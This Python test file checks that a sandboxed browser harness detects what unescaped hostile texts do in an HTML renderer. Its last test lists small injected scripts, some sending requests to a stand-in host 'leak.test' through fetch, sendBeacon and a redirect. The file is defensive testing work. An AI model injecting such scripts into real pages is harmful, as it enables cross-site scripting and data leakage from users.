"""What hostile texts do that are not escaped, and that the harness sees it."""

from __future__ import annotations

from collections.abc import Iterator

import pytest

from chunkscope.rendering import Html, document_html
from tests.browser.watching import Watched
from tests.hostile.harm import IMAGE, Harm, as_shown
from tests.hostile.texts import HOSTILE


def test_there_are_enough_texts_and_none_twice() -> None:
    assert len(HOSTILE) >= 60
    assert len({each.text for each in HOSTILE.values()}) == len(HOSTILE)


@pytest.mark.parametrize("harm", [Harm.RUNS, Harm.ASKS])
def test_texts_do_harm_where_they_are_not_escaped(sandbox: Watched, harm: Harm) -> None:
    harmless = []
    for name, each in HOSTILE.items():
        if each.harm is harm:
            sandbox.open(each.unescaped)
            if harm not in _harms(sandbox.found):
                harmless.append(name)
    assert harmless == []


def _harms(found: list[str]) -> Iterator[Harm]:
    """What happened, from the words of the harness."""
    for each in found:
        if each in ("console: the canary ran", "console: 1"):
            yield Harm.RUNS
        if each.startswith("asked for http"):
            yield Harm.ASKS


def test_texts_that_are_not_escaped_differ_from_the_source(sandbox: Watched) -> None:
    sandbox.open("<!DOCTYPE html><title>a</title>")
    differing = {name: each for name, each in HOSTILE.items() if each.harm is Harm.DIFFERS}
    seen = sandbox.seen(of=[each.unescaped for each in differing.values()])
    same = [
        name
        for (name, each), page in zip(differing.items(), seen, strict=True)
        if not page.strange and page.text == as_shown(each.text)
    ]
    assert same == []


def test_what_runs_in_a_page_or_frame_of_ours_is_seen_in_spite_of_its_policy(
    sandbox: Watched,
) -> None:
    page = str(document_html("title", Html(IMAGE)))
    sandbox.open(page)
    assert "console: the canary ran" in sandbox.found
    sandbox.open_all([page])
    assert "console: the canary ran" in sandbox.found
    assert sandbox.seen()[0].strange[0] == "<img>"


@pytest.mark.parametrize(
    ("script", "seen"),
    [
        ("alert(1)", "a dialog: 1"),
        ("open('about:blank')", "a window: about:blank"),
        ("onload = () => location = '//leak.test/l'", "asked for http://leak.test/l"),
        ("fetch('//leak.test/f')", "asked for http://leak.test/f"),
        ("navigator.sendBeacon('//leak.test/b')", "asked for http://leak.test/b"),
        ("history.pushState(0, '', '/other')", "left for http://page.test/other"),
        ("nosuch()", "error: nosuch is not defined"),
        ("console.log(2)", "console: 2"),
    ],
)
def test_whatever_a_script_does_is_seen(sandbox: Watched, script: str, seen: str) -> None:
    sandbox.open(f"<!DOCTYPE html><script>{script}</script>")
    assert seen in sandbox.found
